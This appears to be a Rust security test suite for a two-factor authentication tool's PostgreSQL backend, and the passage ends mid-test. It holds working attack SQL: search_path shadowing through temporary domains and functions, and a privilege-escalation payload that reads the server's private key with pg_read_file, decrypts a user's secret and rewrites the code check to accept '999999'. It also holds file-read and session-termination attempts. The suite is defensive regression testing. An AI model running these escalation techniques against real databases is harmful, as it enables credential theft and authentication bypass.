//! The fleet database attacked from a rooted host: psql with one host's certificate and
//! key, as that host's role, trying to make twofactor's functions run its code as
//! another role, to read what it must not, and to hold other hosts' users. Also the
//! review's reproduction against the schema as version 1 shipped it, and the migration
//! of such a database with its data. Needs root (a throwaway PostgreSQL cluster).

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use twofactor_core::auth::{CodeResult, Purpose};
use twofactor_core::backend::postgresql::{self, HostEntry};
use twofactor_core::backend::{Backend, BackendError};
use twofactor_core::backup_codes;
use twofactor_core::config::Config;
use twofactor_core::random::OsRandom;
use twofactor_core::store::MAX_USER_LEN;
use twofactor_core::totp::{SecretKey, TotpParams};
use twofactor_core::trusted::RemoteHost;
use twofactor_testkit::conformance::{now, race_config};
use twofactor_testkit::enroll_with_codes;
use twofactor_testkit::postgres::{ADMIN, Cluster, HOSTS};

/// The schema and bootstrap exactly as version 1 shipped them.
const SCHEMA_V1: &str = include_str!("fixtures/fleet-schema-v1.sql");

fn code(key: &SecretKey) -> String {
    let p = TotpParams::default();
    key.code_at_step(&p, p.step_at(now())).to_string()
}

/// Enrolls `user` through the admin role; returns the key and ten backup codes in the
/// form the database hashes them.
fn enroll(c: &Cluster, user: &str) -> (SecretKey, Vec<String>) {
    let (key, codes) = enroll_with_codes(&c.backend(ADMIN), user, 10, &mut OsRandom);
    let canonical = codes
        .iter()
        .map(|c| backup_codes::normalize(c).unwrap().to_string())
        .collect();
    (key, canonical)
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The role each test host logs in as.
fn role_of(host: &str) -> String {
    postgresql::host_role(host)
}

/// A spy that says which role runs it, as a warning: warnings reach the client at once,
/// even from a statement that then fails and rolls back.
const SPY: &str = "CREATE FUNCTION pg_temp.spy() RETURNS pg_catalog.bool LANGUAGE plpgsql AS \
    $$ BEGIN RAISE WARNING 'SPY ran as %', current_user; RETURN true; END $$";

/// Everything a host could create for our functions to resolve instead of their own:
/// temporary functions, domains, views and operators named after the types, tables and
/// functions the schema uses, and the same in public.
fn shadows() -> Vec<String> {
    let mut s = vec![SPY.to_string()];
    let functions = [
        ("now_s", ""),
        ("caller", ""),
        ("log", "pg_catalog.text, pg_catalog.text, pg_catalog.text"),
        ("key", "pg_catalog.int4"),
        ("current_key", ""),
        ("valid_name", "pg_catalog.text"),
        ("is_admin", ""),
        ("hold", "pg_catalog.text"),
        ("digest", "pg_catalog.bytea, pg_catalog.text"),
        (
            "hmac",
            "pg_catalog.bytea, pg_catalog.bytea, pg_catalog.text",
        ),
        ("gen_random_bytes", "pg_catalog.int4"),
        ("pgp_sym_decrypt_bytea", "pg_catalog.bytea, pg_catalog.text"),
        (
            "pgp_sym_encrypt_bytea",
            "pg_catalog.bytea, pg_catalog.text, pg_catalog.text",
        ),
        ("encode", "pg_catalog.bytea, pg_catalog.text"),
        ("lower", "pg_catalog.text"),
        ("length", "pg_catalog.text"),
        ("btrim", "pg_catalog.text, pg_catalog.text"),
        ("pg_read_file", "pg_catalog.text"),
        ("ssl_client_cert_present", ""),
        ("ssl_client_dn_field", "pg_catalog.text"),
        ("jsonb_build_object", "pg_catalog.text, pg_catalog.text"),
        ("read", "pg_catalog.int4"),
    ];
    for (name, args) in functions {
        s.push(format!(
            "CREATE FUNCTION pg_temp.{name}({args}) RETURNS pg_catalog.text LANGUAGE plpgsql \
             AS $$ BEGIN PERFORM pg_temp.spy(); RETURN NULL; END $$"
        ));
    }
    for t in ["text", "bytea"] {
        s.push(format!(
            "CREATE FUNCTION pg_temp.spy_eq_{t}(a pg_catalog.{t}, b pg_catalog.{t}) \
             RETURNS pg_catalog.bool LANGUAGE plpgsql AS \
             $$ BEGIN PERFORM pg_temp.spy(); RETURN a OPERATOR(pg_catalog.=) b; END $$"
        ));
        s.push(format!(
            "CREATE OPERATOR pg_temp.= (LEFTARG = pg_catalog.{t}, RIGHTARG = pg_catalog.{t}, \
             FUNCTION = pg_temp.spy_eq_{t})"
        ));
    }
    for t in [
        "text",
        "bytea",
        "jsonb",
        "int4",
        "int8",
        "bool",
        "numeric",
        "timestamptz",
        "float8",
        "name",
        "varchar",
    ] {
        s.push(format!(
            "CREATE DOMAIN pg_temp.\"{t}\" AS pg_catalog.\"{t}\" CHECK (pg_temp.spy())"
        ));
    }
    for table in [
        "users",
        "settings",
        "keys",
        "backup_codes",
        "trusted_hosts",
        "audit",
        "meta",
        "pending",
        "hosts",
        "files",
    ] {
        s.push(format!(
            "CREATE VIEW pg_temp.{table} AS SELECT * FROM (VALUES (pg_temp.spy())) v(x)"
        ));
    }
    s.push(SPY.replace("pg_temp.", "public."));
    s.push("CREATE DOMAIN public.text AS pg_catalog.text CHECK (public.spy())".into());
    s.push("CREATE VIEW public.users AS SELECT public.spy() AS x".into());
    s
}

/// Every function a host may run, with arguments that take each path: a right and a
/// replayed code, a wrong one, backup codes whose tickets pay for each change, an
/// enrollment that saves and one that does not, and a grace count.
fn host_calls(user: &str, key: &SecretKey, backups: &[String]) -> Vec<String> {
    let fresh = SecretKey::generate(&mut OsRandom).unwrap();
    let ticket = |i: usize| {
        format!(
            "SELECT twofactor.h_verify('{user}', '', '{}', 'login', 1, 50, 300)->>'ticket' AS t \\gset",
            backups[i]
        )
    };
    vec![
        "SELECT twofactor.h_version()".into(),
        format!("SELECT twofactor.h_facts('{user}')"),
        format!(
            "SELECT twofactor.h_verify('{user}', '{}', NULL, 'login', 1, 50, 300)",
            code(key)
        ),
        format!(
            "SELECT twofactor.h_verify('{user}', '{}', NULL, 'login', 1, 50, 300)",
            code(key)
        ),
        format!("SELECT twofactor.h_verify('{user}', '000000', NULL, 'login', 1, 50, 300)"),
        ticket(0),
        format!(
            "SELECT twofactor.h_trust('{user}', decode(:'t', 'hex'), 'sshd', '192.0.2.9', 'ip', 30)"
        ),
        ticket(1),
        format!("SELECT twofactor.h_revoke_trust('{user}', decode(:'t', 'hex'), NULL)"),
        ticket(2),
        format!("SELECT twofactor.h_set_enabled('{user}', decode(:'t', 'hex'), true)"),
        format!(
            "SELECT twofactor.h_enrol('newbie', '\\x{}'::bytea, 'SHA1', 6, 30, '{}', NULL, NULL, 1, ARRAY['aaaabbbb'])",
            hex(fresh.as_bytes()),
            code(&fresh)
        ),
        format!(
            "SELECT twofactor.h_enrol('newbie2', '\\x{}'::bytea, 'SHA1', 6, 30, '000000', NULL, NULL, 1, ARRAY['aaaabbbb'])",
            hex(fresh.as_bytes())
        ),
        "SELECT twofactor.h_count_grace_login('pending1', 3)".into(),
        ticket(3),
        format!("SELECT twofactor.h_new_codes('{user}', decode(:'t', 'hex'), ARRAY['ccccdddd'])"),
        format!(
            "SELECT twofactor.h_verify('{user}', '', 'ccccdddd', 'login', 1, 50, 300)->>'ticket' AS t \\gset"
        ),
        format!("SELECT twofactor.h_remove('{user}', decode(:'t', 'hex'))"),
    ]
}

/// Numbered steps, so that what each printed can be told apart.
fn script(steps: &[String]) -> String {
    steps
        .iter()
        .enumerate()
        .map(|(i, s)| {
            // A psql meta-command such as \gset ends the statement itself.
            let end = if s.ends_with("\\gset") { "" } else { ";" };
            format!("\\echo STEP {i}\n{s}{end}\n")
        })
        .collect()
}

/// What each step printed, by step.
fn by_step(out: &str) -> Vec<String> {
    let mut steps: Vec<String> = Vec::new();
    for line in out.lines() {
        if let Some(n) = line.strip_prefix("STEP ") {
            assert_eq!(n.parse::<usize>().unwrap(), steps.len(), "{out}");
            steps.push(String::new());
        } else if let Some(last) = steps.last_mut() {
            last.push_str(line);
            last.push('\n');
        }
    }
    steps
}

/// Roles the spy reported, other than `me`.
fn escalations(out: &str, me: &str) -> Vec<String> {
    out.lines()
        .filter_map(|l| l.split("SPY ran as ").nth(1))
        .map(str::trim)
        .filter(|r| *r != me)
        .map(str::to_string)
        .collect()
}

/// The shadows and the calls, run twice: once with TEMPORARY and CREATE granted back to
/// the host by the superuser, which tests the pinned search_path alone, and once with the
/// shipped grants, where every shadow must be refused, and for that reason.
#[test]
fn a_hosts_shadows_never_run_as_another_role() {
    let c = Cluster::start();
    let me = role_of(HOSTS[0]);
    let setup = shadows();

    // 1. Granted back: every shadow is in place, the spy works, and nothing runs as
    // another role while every host function takes its paths.
    let (key, backups) = enroll(&c, "victim");
    c.psql(
        "twofactor",
        &format!(
            "GRANT TEMPORARY, CREATE ON DATABASE twofactor TO {me}; GRANT CREATE ON SCHEMA public TO {me}"
        ),
    );
    let mut steps = setup.clone();
    steps.push("SELECT pg_temp.spy()".into());
    steps.extend(host_calls("victim", &key, &backups));
    let out = c.attack(HOSTS[0], &me, &script(&steps));
    let printed = by_step(&out);
    assert_eq!(printed.len(), steps.len(), "{out}");
    for (i, p) in printed.iter().enumerate() {
        assert!(!p.contains("ERROR"), "step {}: {p}", steps[i]);
    }
    assert!(
        printed[setup.len()].contains(&format!("SPY ran as {me}")),
        "the spy reports its role: {}",
        printed[setup.len()]
    );
    assert_eq!(escalations(&out, &me), Vec::<String>::new(), "{out}");
    // The calls did their work despite the shadows.
    let calls = printed[setup.len() + 1..].join("");
    for done in [
        "\"result\": \"totp\"",
        "\"result\": \"replayed\"",
        "\"result\": \"wrong\"",
        "\"result\": \"saved\"",
    ] {
        assert!(calls.contains(done), "{done}: {calls}");
    }
    assert!(!calls.contains("needs a current code"), "{calls}");
    println!(
        "granted back: {} shadows in place, {} calls, 0 ran as another role",
        setup.len(),
        steps.len() - setup.len() - 1
    );

    // 2. Shipped grants: each shadow is refused, for exactly the privileges init revoked.
    c.psql(
        "twofactor",
        &format!(
            "REVOKE TEMPORARY, CREATE ON DATABASE twofactor FROM {me}; REVOKE CREATE ON SCHEMA public FROM {me}"
        ),
    );
    let (key, backups) = enroll(&c, "victim2");
    let mut steps = setup.clone();
    steps.extend(host_calls("victim2", &key, &backups));
    let out = c.attack(HOSTS[0], &me, &script(&steps));
    let printed = by_step(&out);
    assert_eq!(printed.len(), steps.len(), "{out}");
    // The first shadow of each kind is refused for the privilege itself; the rest fail
    // for it or for what it left missing (no pg_temp schema, no spy in public).
    let temp = "ERROR:  permission denied to create temporary tables in database \"twofactor\"";
    let public = "ERROR:  permission denied for schema public";
    let mut firsts = (false, false);
    for (i, p) in printed.iter().take(setup.len()).enumerate() {
        let in_public = setup[i].contains(" public.");
        let first = if in_public {
            !std::mem::replace(&mut firsts.1, true)
        } else {
            !std::mem::replace(&mut firsts.0, true)
        };
        let ok = match (in_public, first) {
            (false, true) => p.contains(temp),
            (false, false) => p.contains(temp) || p.contains("schema \"pg_temp\" does not exist"),
            (true, true) => p.contains(public),
            (true, false) => {
                p.contains(public) || p.contains("function public.spy() does not exist")
            }
        };
        assert!(ok, "shadow {}: {p}", setup[i]);
    }
    assert_eq!(escalations(&out, &me), Vec::<String>::new(), "{out}");
    assert!(out.contains("\"result\": \"totp\""), "{out}");
}

/// The review's attack on the schema as version 1 shipped it: a temporary domain named
/// text runs the host's code as twofactor_owner, which reads the server's TLS key and a
/// user's secret and replaces matching_step so that 999999 logs in on another host. It
/// must work there, so the test can tell; after `fleet init` migrates the database, the
/// same attack does nothing, even with TEMPORARY granted back, and the version 1 data
/// (users, backup codes, trust, audit, a grace count) is all still there and works.
#[test]
fn the_reviews_escalation_works_on_version_1_and_not_after_the_migration() {
    let c = Cluster::start_v1(SCHEMA_V1);
    let (key, backups) = enroll(&c, "victim");
    let (key2, _) = enroll(&c, "bystander");
    // Version 1 data: trust granted on host A, a grace count, a lock, audit rows.
    let a = c.backend(HOSTS[0]);
    let cfg = race_config();
    let checked = a
        .verify("victim", &code(&key), Purpose::Login, &cfg)
        .unwrap();
    assert_eq!(checked.result, CodeResult::Totp);
    let client = RemoteHost::parse("192.0.2.7").unwrap();
    a.trust_host(checked.proof.unwrap(), "sshd", &client, 30)
        .unwrap();
    assert_eq!(a.count_grace_login("latecomer", 3).unwrap(), Some(2));
    let mut strict = Config::default();
    strict.lockout.max_failures = 1;
    assert!(matches!(
        a.verify("bystander", "000000", Purpose::Login, &strict)
            .unwrap()
            .result,
        CodeResult::Wrong {
            locked_for: Some(_)
        }
    ));
    drop(a);
    let audit_before = c.psql("twofactor", "SELECT count(*) FROM twofactor.audit");

    let attack = |c: &Cluster, role: &str| {
        let d = c.path().display().to_string();
        let evil = format!(
            "CREATE FUNCTION pg_temp.evil() RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$ \
             BEGIN \
               IF pg_catalog.current_setting('evil.done', true) = '1' THEN RETURN true; END IF; \
               PERFORM pg_catalog.set_config('evil.done', '1', false); \
               RAISE WARNING 'SPY ran as %', current_user; \
               RAISE WARNING 'SPY server key %', pg_catalog.left(pg_catalog.pg_read_file('{d}/server.key'), 27); \
               RAISE WARNING 'SPY secret %', (SELECT pg_catalog.encode(twofactor.decrypt(secret, key_id), 'hex') \
                                               FROM twofactor.users WHERE name = 'victim'); \
               UPDATE twofactor.users SET locked_until = NULL, failures = 0 WHERE name = 'bystander'; \
               EXECUTE 'CREATE OR REPLACE FUNCTION twofactor.matching_step(u twofactor.users, \
                 p_secret pg_catalog.bytea, p_code pg_catalog.text, p_window pg_catalog.int4) \
                 RETURNS pg_catalog.int8 LANGUAGE sql AS ''SELECT CASE WHEN p_code = ''''999999'''' \
                 THEN twofactor.now_s() / 30 + 100000 END'''; \
               RETURN true; \
             END $$"
        );
        let steps = vec![
            evil,
            "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.evil())".into(),
            "SELECT twofactor.h_verify('victim', '000000', NULL, 'login', 1, 50, 300)".into(),
        ];
        c.attack(HOSTS[0], role, &script(&steps))
    };

    // Version 1: the attack works.
    let out = attack(&c, "twofactor_host");
    assert_eq!(
        escalations(&out, "twofactor_host"),
        vec!["twofactor_owner"],
        "{out}"
    );
    assert!(
        out.contains("SPY server key -----BEGIN PRIVATE KEY-----"),
        "{out}"
    );
    assert!(
        out.contains(&format!("SPY secret {}", hex(key.as_bytes()))),
        "{out}"
    );
    let b = c.backend(HOSTS[1]);
    assert_eq!(
        b.verify("victim", "999999", Purpose::Login, &cfg)
            .unwrap()
            .result,
        CodeResult::Totp,
        "999999 logs in on host B"
    );
    drop(b);
    println!(
        "version 1: the host's code ran as twofactor_owner, read the server's TLS key and a secret, and 999999 logged in on another host"
    );

    // The migration: version 1's functions are replaced, its data kept.
    let report = c.init();
    assert_eq!(report.before, 1);
    assert!(
        report
            .fixed
            .iter()
            .any(|f| f.contains("PUBLIC may TEMPORARY")),
        "{:?}",
        report.fixed
    );
    assert!(
        report
            .fixed
            .iter()
            .any(|f| f.contains("twofactor_owner is a member of pg_read_server_files")),
        "{:?}",
        report.fixed
    );
    assert_eq!(
        c.backend(HOSTS[0]).catalog_problems().unwrap(),
        Vec::<String>::new()
    );
    // The users of version 1 log in: host A still through the shared role, host B once
    // added with a role of its own; the backup codes, trust, grace count and lock remain.
    let a = c.backend(HOSTS[0]);
    let facts = a.facts("victim").unwrap();
    assert_eq!(facts.trusted_devices.0.len(), 1, "trust made before stays");
    assert_eq!(a.facts("latecomer").unwrap().grace_logins_used, 1);
    assert!(
        a.facts("bystander").unwrap().lockout.locked_until.is_none(),
        "version 1's attack unlocked bystander"
    );
    assert_eq!(
        a.verify("victim", &backups[0], Purpose::Login, &cfg)
            .unwrap()
            .result,
        CodeResult::BackupCode { left: 9 }
    );
    // Version 1 mapped every host to the shared role: add-host says to drop that line.
    assert!(c.add_host(HOSTS[1]).shared_mapping);
    let b = c.backend(HOSTS[1]);
    // The replaced matching_step is gone with the rest of version 1's functions.
    assert!(matches!(
        b.verify("victim", "999999", Purpose::Login, &cfg)
            .unwrap()
            .result,
        CodeResult::Wrong { .. }
    ));
    let p = TotpParams::default();
    let later = key2.code_at_step(&p, p.step_at(now()) + 1).to_string();
    assert!(
        b.verify("bystander", &later, Purpose::Login, &cfg)
            .unwrap()
            .result
            .is_success()
    );
    let audit_after: i64 = c
        .psql("twofactor", "SELECT count(*) FROM twofactor.audit")
        .trim()
        .parse()
        .unwrap();
    assert!(audit_after > audit_before.trim().parse::<i64>().unwrap());
    assert!(
        c.psql(
            "twofactor",
            "SELECT count(*) FROM twofactor.users WHERE name = 'latecomer'"
        )
        .trim()
            == "0",
        "a grace count keeps no user row"
    );

    // Version 2: the same attack, with TEMPORARY granted back, runs nothing as the owner.
    c.psql(
        "twofactor",
        "GRANT TEMPORARY ON DATABASE twofactor TO twofactor_host",
    );
    let out = attack(&c, "twofactor_host");
    assert_eq!(
        escalations(&out, "twofactor_host"),
        Vec::<String>::new(),
        "{out}"
    );
    assert!(!out.contains("BEGIN PRIVATE KEY"), "{out}");
    c.psql(
        "twofactor",
        "REVOKE TEMPORARY ON DATABASE twofactor FROM twofactor_host",
    );
    let out = attack(&c, "twofactor_host");
    assert!(
        out.contains("permission denied to create temporary tables"),
        "{out}"
    );
    println!("after fleet init: nothing ran as another role; version 1's users log in");
}

/// The owner, and so anything running as it, reads no file of the server's: not
/// /etc/passwd, not its TLS key, not a key file it names; it reads registered keys by id
/// through the key reader only, and cannot register a path.
#[test]
fn the_owner_reads_no_file_and_cannot_register_one() {
    let c = Cluster::start();
    let d = c.path().display().to_string();
    let as_owner = |sql: &str| {
        let out = Command::new("runuser")
            .args(["-u", "postgres", "--", "/usr/lib/postgresql/15/bin/psql"])
            .args(["-h", &format!("{d}/sock"), "-p", &c.port.to_string()])
            .args(["-U", "tfsuper", "-d", "twofactor", "-XAtq", "-c"])
            .arg(format!("SET ROLE twofactor_owner; {sql}"))
            .output()
            .unwrap();
        (
            out.status.success(),
            String::from_utf8_lossy(&out.stdout).into_owned()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    for sql in [
        "SELECT pg_read_file('/etc/passwd')".to_string(),
        format!("SELECT pg_read_file('{d}/server.key')"),
        format!("SELECT pg_read_binary_file('{d}/server.key')"),
        format!("COPY (SELECT 1) TO '{d}/x'"),
        format!("INSERT INTO twofactor_keys.files VALUES (99, '{d}/server.key')"),
        format!("UPDATE twofactor_keys.files SET path = '{d}/server.key'"),
        "ALTER FUNCTION twofactor_keys.read(integer) OWNER TO twofactor_owner".into(),
        "GRANT twofactor_keyreader TO twofactor_owner".into(),
        "CREATE OR REPLACE FUNCTION twofactor_keys.read(p_id integer) RETURNS text LANGUAGE sql AS 'SELECT 1::text'".into(),
    ] {
        let (ok, out) = as_owner(&sql);
        assert!(!ok, "{sql}: {out}");
        assert!(
            out.contains("permission denied")
                || out.contains("must be")
                || out.contains("must have admin option"),
            "{sql}: {out}"
        );
    }
    // The one thing it may do: read a registered key by its id.
    let (ok, out) = as_owner("SELECT length(twofactor_keys.read(1))");
    assert!(ok, "{out}");
    assert!(out.trim().starts_with("64"), "{out}");
    let (ok, out) = as_owner("SELECT twofactor_keys.read(99)");
    assert!(!ok && out.contains("no key file is registered"), "{out}");
}

/// A host sees no other host's query text and cannot end its sessions; a host that holds
/// a user's row in a transaction it never ends, with its own timeouts overridden, shows
/// in `fleet hosts`, and `fleet remove-host` ends it and drops its role.
#[test]
fn hosts_cannot_see_or_end_each_other_and_remove_host_ends_a_held_row() {
    let c = Cluster::start();
    let (key, _) = enroll(&c, "victim");
    let (a_role, b_role) = (role_of(HOSTS[0]), role_of(HOSTS[1]));
    // Host A opens a transaction holding victim's row, and stays in it.
    let mut held = Command::new("psql")
        .arg(c.conninfo(HOSTS[0], &a_role))
        .args(["-XAtq", "-v", "ON_ERROR_STOP=1"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    writeln!(
        held.stdin.as_mut().unwrap(),
        "SET idle_in_transaction_session_timeout = 0; SET statement_timeout = 0; \
         SET lock_timeout = 0; BEGIN; \
         SELECT twofactor.h_verify('victim', '000000', NULL, 'login', 1, 50, 300); \
         SELECT 'SECRET-QUERY-TEXT';"
    )
    .unwrap();
    held.stdin.as_mut().unwrap().flush().unwrap();
    let admin_url = c.admin_url();
    let deadline = Instant::now() + Duration::from_secs(20);
    let entry = loop {
        let (hosts, _) = postgresql::hosts(&admin_url, None).unwrap();
        let a: Option<HostEntry> = hosts.into_iter().find(|h| h.host == HOSTS[0]);
        if let Some(a) = a.filter(|a| a.open_transactions > 0) {
            break a;
        }
        assert!(
            Instant::now() < deadline,
            "host A's transaction never showed"
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(entry.role, a_role);
    assert!(
        entry.oldest_transaction_s.is_some_and(|s| s >= 0.0),
        "{entry:?}"
    );
    println!("fleet hosts: {entry:?}");

    // Host B sees neither A's query nor may end it.
    let out = c.attack(
        HOSTS[1],
        &b_role,
        &format!(
            "SELECT 'Q:' || coalesce(query, 'null') FROM pg_stat_activity WHERE usename = '{a_role}';\n\
             SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = '{a_role}';\n"
        ),
    );
    assert!(out.contains("Q:<insufficient privilege>"), "{out}");
    assert!(!out.contains("SECRET-QUERY-TEXT"), "{out}");
    assert!(
        out.contains("must be a member of the role whose process is being terminated"),
        "{out}"
    );

    // Meanwhile host B cannot verify for victim: the row is held (lock_timeout).
    let b = c.backend(HOSTS[1]);
    let cfg = race_config();
    let waited = b.verify("victim", &code(&key), Purpose::Login, &cfg);
    assert!(matches!(waited, Err(BackendError::Busy(_))), "{waited:?}");

    let removed = postgresql::remove_host(&admin_url, None, HOSTS[0]).unwrap();
    assert_eq!(removed.role, a_role);
    // Which pg_ident.conf to edit: this server's own.
    assert_eq!(
        removed.ident_file,
        c.path().join("data/pg_ident.conf").display().to_string()
    );
    assert!(removed.sessions_ended >= 1, "{removed:?}");
    let gone = c.psql(
        "postgres",
        &format!("SELECT count(*) FROM pg_roles WHERE rolname = '{a_role}'"),
    );
    assert_eq!(gone.trim(), "0");
    assert!(
        postgresql::hosts(&admin_url, None)
            .unwrap()
            .0
            .iter()
            .all(|h| h.host != HOSTS[0])
    );
    drop(held.stdin.take());
    let _ = held.wait();
    // The row is free again.
    assert_eq!(
        b.verify("victim", &code(&key), Purpose::Login, &cfg)
            .unwrap()
            .result,
        CodeResult::Totp
    );
    // Host A's certificate no longer gets in.
    assert!(matches!(
        c.backend(HOSTS[0]).facts("victim"),
        Err(BackendError::Unreachable {
            phase: Some(twofactor_core::backend::Phase::Auth),
            ..
        })
    ));
}

/// A rooted host that opens every connection it can (97, a stock server's open slots)
/// gets its limit and no more, and every other host still logs in. The limits of all
/// hosts fit the server's slots.
#[test]
fn one_host_cannot_take_every_connection_slot() {
    let c = Cluster::start();
    c.psql("postgres", "ALTER SYSTEM SET max_connections = 100");
    c.pg_ctl("restart");
    let (key, _) = enroll(&c, "victim");
    let a_role = role_of(HOSTS[0]);
    let mut conns: Vec<std::process::Child> = (0..97)
        .map(|_| {
            Command::new("psql")
                .arg(c.conninfo(HOSTS[0], &a_role))
                .args(["-XAtq", "-c", "SELECT pg_sleep(60)"])
                .stdout(Stdio::null())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    // Each either holds its connection or was turned away.
    let held = |c: &Cluster| -> usize {
        c.psql(
            "postgres",
            &format!("SELECT count(*) FROM pg_stat_activity WHERE usename = '{a_role}'"),
        )
        .trim()
        .parse()
        .unwrap()
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut refused = Vec::new();
    loop {
        for child in &mut conns {
            if let Ok(Some(_)) = child.try_wait() {
                let mut err = String::new();
                if let Some(mut pipe) = child.stderr.take() {
                    pipe.read_to_string(&mut err).unwrap();
                    refused.push(err);
                }
            }
        }
        let now_held = held(&c);
        if now_held + refused.len() >= conns.len() || Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    let now_held = held(&c);
    println!(
        "host A tried 97 connections: {now_held} held, {} refused ({})",
        refused.len(),
        refused.first().map_or("", |e| e.trim())
    );
    // Host B logs in meanwhile.
    let b = c.backend(HOSTS[1]);
    let verified = b.verify("victim", &code(&key), Purpose::Login, &race_config());
    for child in &mut conns {
        let _ = child.kill();
        let _ = child.wait();
    }
    assert_eq!(
        verified.map(|v| v.result).map_err(|e| e.to_string()),
        Ok(CodeResult::Totp),
        "host B was refused while host A held {now_held} connections"
    );
    assert_eq!(now_held, postgresql::HOST_CONNECTION_LIMIT as usize);
    assert!(
        refused
            .iter()
            .all(|e| e.contains("too many connections for role")),
        "{refused:?}"
    );
    // The limits fit: every host's 10, and the administrator's share, under 97.
    let report = c.init();
    assert_eq!(report.slots.problem(), None, "{:?}", report.slots);
    assert_eq!(
        report.slots.hosts_total,
        i64::from(postgresql::HOST_CONNECTION_LIMIT) * report.slots.hosts
    );
    // A host given more than the server can hold draws the advice at add-host.
    let added = postgresql::add_host(&c.admin_url(), None, HOSTS[1], Some(200)).unwrap();
    let why = added
        .slots
        .problem()
        .expect("200 connections do not fit in 100");
    assert!(why.contains("raise max_connections"), "{why}");
}

/// A host's words in the audit (service, client address) are checked like names.
#[test]
fn trust_refuses_audit_text_that_could_forge_a_row() {
    let c = Cluster::start();
    let role = role_of(HOSTS[0]);
    let out = c.attack(
        HOSTS[0],
        &role,
        "SELECT twofactor.h_trust('victim', NULL, E'sshd\\nforged', '10.0.0.1', 'ip', 1);\n\
         SELECT twofactor.h_trust('victim', NULL, 'sshd', E'10.0.0.1\\u202e', 'ip', 1);\n\
         SELECT twofactor.h_trust('victim', NULL, 'sshd', '10.0.0.1', 'ip', 1);\n",
    );
    assert!(out.contains("invalid service"), "{out}");
    assert!(out.contains("invalid host"), "{out}");
    // Good text gets as far as the ticket check.
    assert!(!out.contains("invalid kind"), "{out}");
    assert_eq!(out.matches("twofactor: invalid").count(), 2, "{out}");
}

/// Names no account can have are refused by the database itself, at core's limit.
#[test]
fn the_database_refuses_names_no_account_can_have() {
    let c = Cluster::start();
    let h = c.backend(HOSTS[0]);
    let longest = "a".repeat(MAX_USER_LEN);
    assert_eq!(h.count_grace_login(&longest, 3).unwrap(), Some(2));
    // A directory's name with a space is a name like any other.
    assert_eq!(h.count_grace_login("domain user", 3).unwrap(), Some(2));
    for bad in [
        "a".repeat(MAX_USER_LEN + 1),
        "bad\nname".into(),
        "bad\u{1b}[31m".into(),
        "tab\there".into(),
        "del\u{7f}".into(),
        "c1\u{85}".into(),
        "alice\u{202e}nimda".into(),
        "isolate\u{2066}".into(),
        "line\u{2028}sep".into(),
        "zero\u{200b}width".into(),
        String::new(),
    ] {
        let e = h.count_grace_login(&bad, 3).unwrap_err();
        assert!(e.to_string().contains("invalid user name"), "{bad:?}: {e}");
        let e = h.facts(&bad).unwrap_err();
        assert!(e.to_string().contains("invalid user name"), "{bad:?}: {e}");
    }
    // A grace count keeps no user row.
    assert_eq!(
        c.psql("twofactor", "SELECT count(*) FROM twofactor.users")
            .trim(),
        "0"
    );
}

/// A host may start grace counts for only so many names: one that makes names up fills
/// its own share, not other hosts'.
#[test]
fn made_up_names_fill_only_the_hosts_own_share() {
    let c = Cluster::start();
    c.psql(
        "twofactor",
        "UPDATE twofactor.settings SET pending_per_host_cap = 3",
    );
    let a = c.backend(HOSTS[0]);
    for i in 0..3 {
        assert_eq!(
            a.count_grace_login(&format!("made-up{i}"), 5).unwrap(),
            Some(4)
        );
    }
    assert_eq!(a.count_grace_login("made-up3", 5).unwrap(), None);
    // Names it already counts go on; another host is unaffected.
    assert_eq!(a.count_grace_login("made-up0", 5).unwrap(), Some(3));
    assert_eq!(
        c.backend(HOSTS[1])
            .count_grace_login("real-user", 5)
            .unwrap(),
        Some(4)
    );
}

/// A fake server that answers the TLS request with "no" never gets the superuser's
/// password, whatever sslmode the URL asks for; sslmode=disable over TCP is refused before
/// any connection.
#[test]
fn a_server_refusing_tls_never_receives_the_admins_password() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut s, _) = listener.accept().unwrap();
        let mut request = [0u8; 8];
        s.read_exact(&mut request).unwrap();
        s.write_all(b"N").unwrap();
        s.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
        let mut rest = Vec::new();
        let _ = s.read_to_end(&mut rest);
        (request, rest)
    });
    let url = format!(
        "host=127.0.0.1 port={port} user=postgres password=hunter2-secret dbname=twofactor sslmode=prefer"
    );
    let e = postgresql::init(&url, None, "/nonexistent", None).unwrap_err();
    let (request, rest) = server.join().unwrap();
    // The SSLRequest code, 80877103.
    assert_eq!(request, [0, 0, 0, 8, 4, 210, 22, 47]);
    assert!(
        !String::from_utf8_lossy(&rest).contains("hunter2") && rest.is_empty(),
        "after the refusal the client sent {rest:?}"
    );
    println!("refused: {e}");

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let e = postgresql::init(
        &format!("host=127.0.0.1 port={port} user=postgres password=x sslmode=disable"),
        None,
        "/nonexistent",
        None,
    )
    .unwrap_err();
    assert!(e.to_string().contains("in the clear"), "{e}");
    assert!(listener.accept().is_err(), "no connection was made");
}

/// The catalog check sees each way the database can be opened up again, from a host's
/// own connection (as doctor runs it), and `fleet init` closes them all.
#[test]
fn the_catalog_check_finds_each_opening_and_init_closes_them() {
    let c = Cluster::start();
    let host = || c.backend(HOSTS[0]);
    assert_eq!(host().catalog_problems().unwrap(), Vec::<String>::new());
    let a_role = role_of(HOSTS[0]);
    let openings = [
        (
            "GRANT TEMPORARY ON DATABASE twofactor TO PUBLIC",
            "PUBLIC may TEMPORARY",
        ),
        (
            "GRANT CREATE ON SCHEMA public TO PUBLIC",
            "PUBLIC may create in schema public",
        ),
        (
